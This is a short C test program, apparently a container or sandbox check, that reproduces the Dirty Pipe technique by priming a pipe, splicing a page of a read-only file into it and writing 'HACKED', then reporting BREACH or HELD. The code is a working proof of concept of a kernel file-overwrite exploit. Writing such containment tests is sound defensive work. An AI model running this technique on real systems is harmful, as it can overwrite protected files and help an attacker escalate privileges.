// Splices a read-only file’s page into a pipe and writes into the pipe: the shape of Dirty Pipe.
// layers: read-only root
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void) {
  int file = open("/etc/debian_version", O_RDONLY);
  char before[16] = {0}, after[16] = {0};
  if (file < 0 || pread(file, before, 8, 0) <= 0) { puts("BREACH cannot read the file"); return 1; }
  int ends[2];
  if (pipe(ends)) return 1;
  int size = fcntl(ends[1], F_GETPIPE_SZ);
  static char page[4096];
  for (int left = size; left > 0;) left -= write(ends[1], page, left > 4096 ? 4096 : left);
  for (int left = size; left > 0;) left -= read(ends[0], page, left > 4096 ? 4096 : left);
  off64_t at = 0;
  if (splice(file, &at, ends[1], NULL, 1, 0) == 1 && write(ends[1], "HACKED", 6) == 6) pread(file, after, 8, 0);
  else memcpy(after, before, sizeof after);
  puts(memcmp(before, after, sizeof after) ? "BREACH the file has changed" : "HELD");
}
